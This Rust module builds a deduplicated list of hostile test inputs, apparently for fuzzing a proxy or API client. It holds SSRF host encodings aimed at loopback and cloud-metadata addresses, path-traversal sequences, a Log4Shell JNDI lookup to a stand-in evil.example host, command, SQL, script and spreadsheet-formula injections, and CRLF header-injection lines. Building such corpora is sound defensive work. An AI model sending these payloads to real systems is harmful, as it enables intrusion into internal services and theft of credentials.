//! A thousand hostile texts, made from what has misled proxies: other hosts, other paths, other headers, other types.

/// Hosts inside a network, in forms that have passed checks.
const HOSTS: [&str; 40] = [
    "127.0.0.1:8080",
    "127.0.0.1%00.evil.example",
    "127。0。0。1",
    "user:password@127.0.0.1",
    "127.0.0.1",
    "127.1",
    "127.0.1",
    "0",
    "0.0.0.0",
    "2130706433",
    "0x7f000001",
    "0x7f.1",
    "017700000001",
    "0177.0.0.1",
    "127.0.0.1.",
    "localhost",
    "LOCALHOST",
    "localhost.",
    "foo.localhost",
    "localhost.localdomain",
    "[::1]",
    "[::]",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "[0:0:0:0:0:0:0:1]",
    "[64:ff9b::7f00:1]",
    "[2002:7f00:1::]",
    "[fe80::1%25eth0]",
    "[fd00:ec2::254]",
    "169.254.169.254",
    "[::ffff:a9fe:a9fe]",
    "metadata.google.internal",
    "10.0.0.1",
    "192.168.0.1",
    "172.16.0.1",
    "100.64.0.1",
    "evil.example",
    "evil.example:443",
    "app.asana.com.evil.example",
    "xn--80ak6aa92e.example",
];

/// How a host gets into a place that has none.
const AS: [&str; 15] = [
    "http://{}",
    "https://{}/",
    "//{}",
    "///{}",
    "/\\{}",
    "\\\\{}",
    "/\t/{}",
    "https:{}",
    "https:/{}",
    "http:\\\\{}",
    "@{}",
    "x@{}/",
    "https://app.asana.com@{}/",
    "https://{}#app.asana.com",
    "gopher://{}:70/_",
];

/// Steps out of a path, and what ends a path.
const STEPS: [&str; 30] = [
    "../",
    "..",
    "..;/",
    "..\\",
    "%2e%2e/",
    "%2e%2e%2f",
    "..%2f",
    "..%5c",
    "%252e%252e%252f",
    "%c0%ae%c0%ae/",
    "....//",
    ".%00./",
    "./",
    "//",
    "/",
    "%2f",
    "%5c",
    "\\",
    "?",
    "%3f",
    "#",
    "%23",
    "&",
    "%26",
    ";",
    "%3b",
    "=",
    "%3d",
    "%",
    "%zz",
];
const AROUND: [(&str, &str); 9] = [
    ("", ""),
    ("", "users/me"),
    ("12345", ""),
    ("12345", "x"),
    ("12345", "limit=1"),
    ("primary", "events/x"),
    ("12345", "../../admin"),
    ("", "x:y"),
    ("a", "b=c&d"),
];

/// Texts for parsers, interpreters and logs.
const OTHERS: [&str; 48] = [
    "",
    " ",
    ".",
    "null",
    "undefined",
    "true",
    "NaN",
    "-1",
    "9007199254740993",
    "1e309",
    "0x1",
    "__proto__",
    "constructor",
    "{gid}",
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "$(id)",
    "`id`",
    "'; DROP TABLE tasks; --",
    "\" OR \"\"=\"",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "data:text/html,x",
    "file:///etc/passwd",
    "=HYPERLINK(\"https://evil.example\")",
    "@SUM(1+1)",
    "+1+1",
    "\u{feff}",
    "\u{202e}txt.exe",
    "\u{200d}",
    "\u{1f600}",
    "é",
    "e\u{301}",
    "ß",
    "İ",
    "\u{2028}",
    "\u{fffd}",
    "a,b;c|d",
    "[]",
    "{}",
    "{\"a\":1}",
    "Bearer x",
    "g1.a.AAAA",
    "../../../../../../etc/passwd",
    "con",
    "a b\tc",
    "%s%n%x",
];

/// What may follow a line break.
const LINES: [&str; 6] = [
    "Authorization: Bearer x",
    "Host: evil.example",
    "Set-Cookie: a=b",
    "Transfer-Encoding: chunked",
    "GET /admin HTTP/1.1",
    "",
];
const BREAKS: [&str; 7] = ["\r\n", "\n", "\r", "%0d%0a", "%0a", "\u{85}", "\r\n\r\n"];

/// All of them, each once.
pub(super) fn all() -> Vec<String> {
    let mut texts: Vec<String> = OTHERS.iter().map(|text| (*text).to_owned()).collect();
    texts.extend(HOSTS.iter().flat_map(|host| AS.iter().map(move |form| form.replace("{}", host))));
    let stepped = |step: &&'static str| AROUND.map(|(before, after)| format!("{before}{step}{after}"));
    texts.extend(STEPS.iter().flat_map(stepped));
    texts.extend(BREAKS.iter().flat_map(|end| LINES.iter().map(move |line| format!("x{end}{line}"))));
    texts.extend((0..0x20).chain([0x7f]).map(|control| format!("a{}b", char::from(control))));
    texts.extend((0..0x20).map(|control| format!("12345{}", char::from(control))));
    texts.extend([100, 129, 2049, 10_000].map(|length| "x".repeat(length)));
    texts.extend([200, 2000].map(|times| "../".repeat(times)));
    texts.extend([50, 500].map(|times| "[".repeat(times)));
    texts.sort();
    texts.dedup();
    texts
}
